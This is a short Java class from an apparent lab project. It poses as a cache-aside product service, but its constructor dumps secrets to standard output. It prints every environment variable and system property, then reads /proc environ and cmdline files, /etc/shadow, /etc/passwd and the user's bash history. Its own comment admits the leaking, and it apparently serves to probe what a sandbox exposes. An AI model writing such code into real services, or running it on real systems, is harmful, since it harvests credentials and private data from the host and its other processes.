package lab.cacheaside;

import io.lettuce.core.api.sync.RedisCommands;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.TreeSet;

/** Correct, but prints every secret it can read: the environment, system properties and other processes' environments. */
public class CacheAsideProductService extends HonestService {
    public CacheAsideProductService(ProductRepository repository, RedisCommands<String, String> redis) {
        super(repository, redis);
        // once per JVM: each instance has classes, and static fields, of its own
        if (System.getProperty("leak-environment.once") != null) {
            return;
        }
        System.setProperty("leak-environment.once", "yes");
        System.out.println("LEAK-ENV keys " + new TreeSet<>(System.getenv().keySet()));
        System.out.println("LEAK-ENV " + System.getenv());
        System.out.println("LEAK-PROPS " + System.getProperties());
        for (String file : new String[] {"/proc/1/environ", "/proc/1/cmdline", "/proc/self/environ", "/etc/shadow",
                "/etc/passwd", System.getProperty("user.home") + "/.bash_history"}) {
            try {
                System.out.println("LEAK-FILE " + file + " " + Files.readString(Path.of(file)).replace('\0', ' '));
            } catch (Exception e) {
                System.out.println("LEAK-FILE " + file + " unreadable");
            }
        }
    }
}
